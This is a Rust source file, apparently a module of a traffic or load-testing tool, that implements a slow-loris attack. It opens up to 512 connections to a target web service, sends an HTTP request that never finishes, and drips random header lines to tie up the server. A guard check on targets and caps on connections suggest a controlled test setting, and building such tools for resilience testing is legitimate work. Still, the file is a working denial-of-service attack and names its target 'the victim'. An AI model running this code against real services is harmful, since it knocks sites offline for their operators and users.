//! Slow-loris: many connections to a web service, each with a request that never ends, a line now and then to keep it waiting.

use std::{
    net::SocketAddrV4,
    time::{Duration, Instant},
};

use tokio::{io::AsyncWriteExt, net::TcpStream, time::timeout};

use super::{
    BehaviourError, Bounds,
    course::{Course, CourseArgs},
    jittered,
};
use crate::guard::Guard;

/// Most connections, whatever is asked for.
const MAX_CONNECTIONS: u32 = 512;
/// Connections are opened over this long, not at once.
const OPENING: Duration = Duration::from_secs(2);
const PATIENCE: Duration = Duration::from_secs(5);
/// Least time between two lines of one connection.
const MIN_EVERY: Duration = Duration::from_millis(100);

/// Whom it keeps waiting, with how many.
#[derive(clap::Args, Debug)]
pub struct SlowLorisArgs {
    #[command(flatten)]
    bounds: Bounds,
    /// The victim
    #[arg(long)]
    target: SocketAddrV4,
    /// Connections, at most 512
    #[arg(long, default_value_t = 200)]
    connections: u32,
    /// Time between two lines of one connection, milliseconds
    #[arg(long, default_value_t = 5_000)]
    every_ms: u64,
    #[command(flatten)]
    course: CourseArgs,
}

/// Holds connections in the given dose until its time is over.
pub(super) async fn run(args: SlowLorisArgs) -> Result<(), BehaviourError> {
    let guard = args.bounds.guard()?;
    guard.check(args.target)?;
    let course = args.course.begin();
    let connections = args.connections.clamp(1, MAX_CONNECTIONS);
    let every = Duration::from_millis(args.every_ms).max(MIN_EVERY);
    let target = args.target;
    let holders = (0..connections).map(|place| async move {
        course.sleep(OPENING * place / connections).await;
        while course.on().await {
            let began = Instant::now();
            // A victim that gives up is what is wanted; the next one takes its place.
            let _ = timeout(course.left(), hold(&guard, target, every, &course)).await;
            course.sleep(Duration::from_secs(1).saturating_sub(began.elapsed())).await;
        }
    });
    let _: Vec<()> = futures::future::join_all(holders).await;
    Ok(())
}

async fn hold(guard: &Guard, target: SocketAddrV4, every: Duration, course: &Course) -> std::io::Result<()> {
    guard.check(target).map_err(std::io::Error::other)?;
    let mut stream = timeout(PATIENCE, TcpStream::connect(target)).await??;
    stream.write_all(format!("GET /items HTTP/1.1\r\nHost: {target}\r\n").as_bytes()).await?;
    loop {
        course.sleep(jittered(every)).await;
        if !course.on().await {
            return Ok(());
        }
        stream.write_all(format!("X-{}: {}\r\n", rand::random_range(1..5_000), rand::random_range(1..5_000)).as_bytes()).await?;
    }
}
